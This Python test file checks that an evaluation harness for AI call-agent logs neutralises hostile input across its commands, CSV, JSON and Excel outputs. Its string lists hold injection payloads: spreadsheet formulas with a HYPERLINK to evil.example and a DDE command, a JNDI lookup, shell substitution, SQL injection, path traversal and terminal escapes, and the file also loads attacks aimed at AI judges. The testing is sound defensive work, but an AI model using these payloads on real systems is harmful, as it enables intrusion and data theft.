"""Callers say what they like: hostile text goes through every command and output as text, whole or visibly split."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from evalharness.flows.opened import opened
from evalharness.models.call import Call
from evalharness.report.text import straight
from evalharness.workspace.folder import Workspace
from evalharness.xlsx import visible
from tests.acceptance.desk import clean, sample_of, type_in
from tests.flows.workspaces import command, make_workspace

WEEK = "2026-W47"
DATA = Path(__file__).resolve().parents[3] / "shared" / "data"
LONG = "".join(f"word{number} " for number in range(4_600))[:40_000]
TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1+1",
    '<script>alert("x")</script>', "</transcript><!-- --> ]]> &amp; &lt;", "\x00\x01\x1b[31mred\x1b[0m\x07\x7f\x9b2J\r\nnext",
    "abc\u202egnp.exe\u2066 \u200fשלום\u200e \ufeff", "_x000D_ _x0041_", "{{7*7}} ${jndi:ldap://x} `id` $(id)", "'=1+1",
    "'; DROP TABLE grades; --", "\u0000" * 40, "\U0001f469\u200d\U0001f4bb" * 50, LONG, " \n ", "#REF!", "TRUE",
)  # fmt: skip
IDS = (
    "../../x", "/etc/passwd", "=1+1", "a\"b'c,d;e", "<b>id</b>", "abc\u202egnp", "\x1b]0;owned\x07", "C:\\con\\..\\nul", "-rf",
    "%2e%2e%2f", "line\nbreak", "x" * 512,
)  # fmt: skip
OUR_COUNT = re.compile(
    rb'<f>SUMPRODUCT\((?:\(LEN\([A-Z]+\d+:[A-Z]+\d+\)&gt;0\)\*)+1\)&amp;" of \d+ (?:calls|turns) answered\.  [^"<]*"</f>'
)
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")


@dataclass(frozen=True)
class Fed:
    """The workspace after the whole loop, everything printed on the way, and the texts that were put in, by call id."""

    root: Path
    said: dict[str, subprocess.CompletedProcess[str]]
    texts: dict[str, tuple[str, ...]]
    outer: Path


def strings() -> list[str]:
    """The texts above, and the public lists of naughty strings and of attacks on judges where they are at hand."""
    found = list(TEXTS)
    blns, attacks = DATA / "badinput" / "blns" / "blns.json", DATA / "attacks" / "voice_judge_attacks.jsonl"
    if blns.is_file():
        found += [text for text in json.loads(blns.read_text(encoding="utf-8")) if text]
    if attacks.is_file():
        found += [json.loads(line)["text"] for line in attacks.read_text(encoding="utf-8").splitlines()]
    return found


def a_row(call_id: str, number: int, texts: tuple[str, ...], **fields: object) -> str:
    """A call of the week as a line of our form; hostile words in every free field."""
    at = datetime.fromisoformat("2026-11-16T09:00:00+01:00") + timedelta(hours=number)
    turns = [{"speaker": ("agent", "caller")[i % 2], "text": text} for i, text in enumerate(texts)]
    turns[0]["tool_calls"] = [{"name": "=HYPERLINK(1)", "arguments": {"<script>": "=1+1"}, "result": "\x1b[2J=2+2"}]
    call = {
        "id": call_id,
        "agent": "=1+1",
        "version": "<i>v1</i>",
        "started_at": at.isoformat(),
        "intent": "=2+5",
        "turns": turns,
    }
    metadata = {"<b>": "=1", "path": "../../etc"}
    return json.dumps({**call, "end_reason": "\x1b[1m@x", "errors": ["=1+1"], "metadata": metadata, **fields})


@pytest.fixture(scope="module")
def fed(tmp_path_factory: pytest.TempPathFactory) -> Fed:
    """collect, sample, sheet, grades with hostile notes, import, report, calls show: all from a folder of their own."""
    outer = tmp_path_factory.mktemp("hostile")
    for name in ("home", "temporary", "here"):
        (outer / name).mkdir()
    root = make_workspace(outer / "deep" / "ws", (), owner="../../Eve <b>", agent="=1+1")
    settings = root / "evalharness.yaml"
    settings.write_text(settings.read_text().replace("size: 35", "size: 50"))
    said_by_callers = strings()
    chunks = [said_by_callers[start : start + 16] for start in range(0, len(said_by_callers), 16)]
    names = [*IDS, *(f"call-{number}" for number in range(len(chunks)))]
    texts = {name: tuple(chunks[number % len(chunks)]) for number, name in enumerate(names)}
    log = outer / "log.jsonl"
    log.write_text("".join(a_row(name, number, text) + "\n" for number, (name, text) in enumerate(texts.items())))
    said: dict[str, subprocess.CompletedProcess[str]] = {}

    def do(*words: object) -> None:
        said[" ".join(map(str, words[:2]))] = _run(outer, root, *words)

    do("collect", log)
    do("sample", "--week", WEEK)
    do("sheet", "export", "--week", WEEK)
    rubric = Workspace.at(root).rubric()
    path = type_in(root, WEEK, "../../Eve <b>", lambda _: clean(rubric))
    _note_in_every_row(path)
    do("sheet", "import", "--week", WEEK)
    do("report", "--week", WEEK)
    do("gate", "--week", WEEK, "--json")
    do("week", "--week", WEEK)
    for name in ("calls", "=1+1"):
        said[f"show {name}"] = _run(outer, root, "calls", "show", name)
    said["show escape"] = _run(outer, root, "calls", "show", "--json", "--", "\x1b]0;owned\x07")
    return Fed(root, said, texts, outer)


def _run(outer: Path, root: Path, *words: object) -> subprocess.CompletedProcess[str]:
    there = {**os.environ, "HOME": str(outer / "home"), "TMPDIR": str(outer / "temporary"), "EVALHARNESS_WORKSPACE": str(root)}
    return subprocess.run(
        command(*words), capture_output=True, text=True, check=False, timeout=300, cwd=outer / "here", env=there, errors="strict"
    )


def _note_in_every_row(path: Path) -> None:
    """A hostile remark typed as text into the column Note."""
    book = load_workbook(path)
    sheet = book["Scores"]
    header = next(row for row in sheet.iter_rows() if any(cell.value == "Note" for cell in row))
    column = next(cell.column for cell in header if cell.value == "Note")
    for row in sheet.iter_rows(min_row=header[0].row + 1):
        if str(row[0].value).startswith("C-"):
            cell = sheet.cell(row[0].row, column)
            cell.value, cell.data_type = '=HYPERLINK("http://evil.example")', "s"
    book.save(path)


def calls_of(fed: Fed) -> dict[str, Call]:
    with opened(Workspace.at(fed.root)) as house:
        return {call.id: call for call in house.calls.calls([("jsonl", name) for name in fed.texts])}


def books_of(root: Path) -> list[Path]:
    return [*root.rglob("*.xlsx")]


def test_everything_goes_in_and_every_command_ends(fed: Fed) -> None:
    """Every row accepted; no command fails, but `calls show calls` for which there is no call."""
    rows = len(fed.texts)
    assert f"{rows} rows read = {rows} accepted" in fed.said["collect " + str(fed.outer / "log.jsonl")].stdout
    codes = {name: done.returncode for name, done in fed.said.items()}
    assert {name for name, code in codes.items() if code == 2} == {"show calls"}
    assert codes.pop("gate --week") == 4  # nothing missed; no latency, no cost
    codes.pop("show calls")
    assert set(codes.values()) == {0}, {name: fed.said[name].stderr for name, code in codes.items() if code}
    assert f": imported: {rows * 12} grades" in fed.said["sheet import"].stdout  # every call, 12 questions


def test_the_terminal_gets_no_control_character(fed: Fed) -> None:
    """Nothing that moves a cursor, rings, sets a title or turns the reading direction, in words or in JSON."""
    printed = "".join(done.stdout + done.stderr for done in fed.said.values())
    assert "owned" in printed
    assert "red" in printed
    assert CONTROL.findall(printed) == []


def test_json_gives_the_text_back(fed: Fed) -> None:
    """`calls show --json` escapes what acts on a terminal, and a reader of JSON gets every character again."""
    call = json.loads(fed.said["show escape"].stdout)["call"]
    assert call["id"] == "\x1b]0;owned\x07"
    assert [turn["text"] for turn in call["turns"]] == [turn.text for turn in calls_of(fed)[call["id"]].turns]


def test_what_is_stored_is_what_was_said(fed: Fed) -> None:
    """Every character of the texts above is stored; only numbers and addresses that redaction knows may have given way."""
    stored = {turn.text for call in calls_of(fed).values() for turn in call.turns}
    assert set(TEXTS) <= stored
    assert len(LONG) == 40_000


def test_no_workbook_holds_a_formula_or_leads_outside(fed: Fed) -> None:
    """Sheets and workbook: no formula cell but our own count of answers, which holds no text of a call; no link out, no macro."""
    books = books_of(fed.root)
    assert len(books) == 2
    for path in books:
        with zipfile.ZipFile(path) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        assert not [name for name in parts if "external" in name.lower() or "vba" in name.lower()]
        assert not [name for name, data in parts.items() if b"TargetMode=" in data]
        assert [
            one for data in parts.values() for one in re.findall(rb"<f[ >].*?</f>", data) if not OUR_COUNT.fullmatch(one)
        ] == []
        cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert len(cells) > 1000
        assert {cell.coordinate for cell in cells if cell.data_type == "f"} <= {"A2"}
        assert {cell.hyperlink.target for cell in cells if cell.hyperlink} <= {None}


def test_the_workbook_shows_every_turn_whole_or_visibly_split(fed: Fed) -> None:
    """Of every drawn call the rows of a turn join to its text, controls shown as escapes; parts say which of how many."""
    book = load_workbook(fed.root / "reports" / WEEK / "week.xlsx")
    _, *rows = book["Transcripts"].iter_rows(values_only=True)
    shown: dict[tuple[str, int], str] = {}
    for number, _, turn, _, _, _, text, _ in rows:
        key = (str(number), int(str(turn).split()[0]))
        shown[key] = shown.get(key, "") + re.sub(r"\A\(continued \d+ of \d+\) ", "", str(text or ""))
    assert any(" of " in str(row[2]) for row in rows), "the long turn is in parts"
    items = sample_of(fed.root, WEEK).items
    expected = {(f"#{i.position}", turn.index): visible(straight(turn.text)) for i in items for turn in i.call.turns}
    assert len(items) == len(fed.texts)
    assert {key: text for key, text in shown.items() if text.strip() != expected[key].strip()} == {}
    assert set(shown) == set(expected)


def test_csv_and_json_open_and_hold_no_formula(fed: Fed) -> None:
    """No field of scores.csv begins as a formula; a strict reader takes summary.json; the markdown shows no tag."""
    folder = fed.root / "reports" / WEEK
    with (folder / "scores.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file, strict=True))
    assert len({row["call_id"] for row in rows}) == len(fed.texts)
    fields = [value for row in rows for value in row.values()]
    assert [value for value in fields if value.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert sum("HYPERLINK" in value for value in fields) >= len(fed.texts)
    assert json.loads((folder / "summary.json").read_text(encoding="utf-8"))["agent"] == "=1+1"
    assert "<b>" not in (folder / "summary.md").read_text(encoding="utf-8")


def test_nothing_is_written_outside_the_workspace(fed: Fed) -> None:
    """Beside the workspace stand the log and three empty folders; inside it only the folders that `init` made."""
    outside = {str(path.relative_to(fed.outer)) for path in fed.outer.rglob("*") if not path.is_relative_to(fed.root)}
    assert outside == {"log.jsonl", "home", "temporary", "here", "deep"}
    made = {path.name for path in fed.root.iterdir()} - {".lock", "ledger.db", "ledger.db-wal", "ledger.db-shm"}
    assert made == {".key", "evalharness.yaml", "rubrics", "inbox", "calls", "sheets", "reports", "logs"}
    assert all(path.is_relative_to(fed.root / "sheets" / WEEK) for path in fed.root.rglob("*Eve*"))


def test_two_agents_without_scope_are_refused_with_a_list(tmp_path: Path) -> None:
    """`sample` names both with their counts and draws nothing; with a scope it draws, and a new intake counts the others."""
    rows = [a_row(f"a{i}", i, ("Hello.", "Hi.")) for i in range(23)]
    rows += [a_row(f"b{i}", i, ("Hello.", "Hi."), agent="Night Desk") for i in range(9)]
    log = tmp_path / "log.jsonl"
    log.write_text("\n".join(rows))
    roots = [make_workspace(tmp_path / name, ()) for name in ("first", "second")]
    (tmp_path / "here").mkdir()

    def do(root: Path, *words: object) -> subprocess.CompletedProcess[str]:
        return _run(tmp_path, root, *words)

    assert do(roots[0], "collect", log).returncode == 0
    refused = do(roots[0], "sample", "--week", WEEK)
    assert refused.returncode == 1
    assert "2 agents: =1+1: 23 calls, Night Desk: 9 calls" in refused.stderr
    assert "scope:" in refused.stderr
    assert do(roots[0], "gate", "--week", WEEK).returncode == 4  # nothing was drawn

    for root in roots:
        settings = root / "evalharness.yaml"
        text = re.sub(r"(?m)^scope:.*\n", "", settings.read_text())
        settings.write_text(text + "\nscope: \"agent == 'Night Desk'\"\n")
    drawn = do(roots[0], "sample", "--week", WEEK, "--json")
    assert drawn.returncode == 0, drawn.stderr
    assert {call["id"] for call in json.loads(drawn.stdout)["calls"]} == {f"b{i}" for i in range(9)}
    (report,) = json.loads(do(roots[1], "collect", log, "--json").stdout)
    assert (report["rows"], report["accepted"], report["other_agent"]) == (32, 9, 23)
